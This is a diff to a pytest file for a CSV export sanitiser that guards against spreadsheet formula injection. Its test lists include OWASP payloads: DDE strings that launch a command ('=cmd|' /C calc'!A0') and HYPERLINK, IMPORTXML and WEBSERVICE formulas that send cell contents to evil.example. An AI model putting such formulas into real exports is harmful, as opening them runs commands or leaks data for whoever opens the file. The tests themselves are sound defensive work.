@@ -44,12 +44,13 @@ def test_owasp_examples_are_escaped_as_the_page_shows(value, field):
     assert _rows(f"{field}\r\n", delimiter=";") == [["'" + value]]  # a ";" locale: still one text cell
 
 
-# Every character the page lists, each leading a formula that does something.
+# Every character the page lists, each leading a formula that reaches outside its cell.
 OWASP_FORMULAS = [
-    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=1+1", "= 1",
-    "+cmd|' /C calc'!A0", "+IMPORTXML(CONCAT(\"http://evil.example/?v=\", A1), \"//a\")", "+1+1",
-    "-2+3+cmd|' /C calc'!A0", "-HYPERLINK(\"http://evil.example\")", "-A1*2",
-    "@SUM(1+9)*cmd|' /C calc'!A0", "@A1&A2",
+    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=1+1", "= 1", "=",
+    "+cmd|' /C calc'!A0", "+IMPORTXML(CONCAT(\"http://evil.example/?v=\", A1), \"//a\")",
+    "-2+3+cmd|' /C calc'!A0", "-HYPERLINK(\"http://evil.example\")", "- x (WEBSERVICE(\"http://e.example\"))",
+    "-Sheet2!A1", "+'C:\\path\\[book.xlsx]Sheet1'!A1",
+    "@SUM(1+9)*cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
     "\t=1+2", "\tplain after a tab", "\r=1+2", "\n=1+2",
 ]
 
@@ -62,10 +63,14 @@ def test_every_formula_the_owasp_page_lists_is_neutralised(value):
     assert unneutralise(neutralise(value)) == value
 
 
-# Cells a spreadsheet shows as text or a number: kept byte for byte (issue 15).
-KEPT = ["-3 degrees", "+5 degrees is the forecast", "-12 percent was the drop", "@carol", "-report not public",
-        "+anonymous, no second source", "'Parasite' scores", "''Parasite' scores at Cannes", "'", "-", "+", "@",
-        "-3", "+44 20 7946 0000", "plain = text", "", "100% (all)", "'-3 degrees", "a\n=1+2"]
+# Cells a spreadsheet shows as text, a number or at worst a computed value or an error: no call,
+# link or reference, so kept byte for byte (issue 15). Real captions and notes among them.
+KEPT = ["-3 degrees", "-3 degrees, not -5 as the piece says", "+5 degrees is the forecast",
+        "-12 percent was the drop", "@carol", "-report not public", "+anonymous, no second source",
+        "- From the section US & Canada", "- 4K Blu-ray drive is great for movie fans",
+        "- Kauri (Te Kaurinui Robert) Parata, watched by his father", "+44 (0)20 7946 0000", "-2+3", "@A1&A2",
+        "'Parasite' scores", "''Parasite' scores at Cannes", "'", "-", "+", "@", "-3", "plain = text", "",
+        "100% (all)", "'-3 degrees", "a\n=1+2"]
 
 
 @pytest.mark.parametrize("value", KEPT)
@@ -74,12 +79,12 @@ def test_other_cells_are_byte_identical(value):
     assert neutralise(value) == value and unneutralise(value) == value
 
 
-@pytest.mark.parametrize("value, expected", [("'=1+2", "''=1+2"), ("''-1+1", "'''-1+1"), ("'\tx", "''\tx")])
+@pytest.mark.parametrize("value, expected", [("'=1+2", "''=1+2"), ("''-cmd|x", "'''-cmd|x"), ("'\tx", "''\tx")])
 def test_apostrophe_led_formulas_get_one_more_so_the_round_trip_is_exact(value, expected):
     assert neutralise(value) == expected and unneutralise(expected) == value
 
 
-@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n(|!*a 1\",;") | st.characters(), max_size=24))
+@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n(|!*aZ 1\",;") | st.characters(), max_size=24))
 def test_neutralise_is_safe_and_exactly_reversible(value):
     safe = neutralise(value)
     assert safe in (value, "'" + value)
@@ -99,7 +104,7 @@ def test_no_exported_cell_can_run_as_a_formula(conn):
     assert "'\tTabs lead this unattributed line." in cells
     # The harmless ones are exactly as stored (issue 15: no more "'-12 percent").
     for kept in ("-12 percent was the drop", "+5 degrees is the forecast", "@carol", "-report not public",
-                 "+anonymous, no second source", "On the record; =see transcript"):
+                 "+anonymous, no second source", "On the record; =see transcript"):  # no call, link or reference
         assert kept in cells, kept
 
 
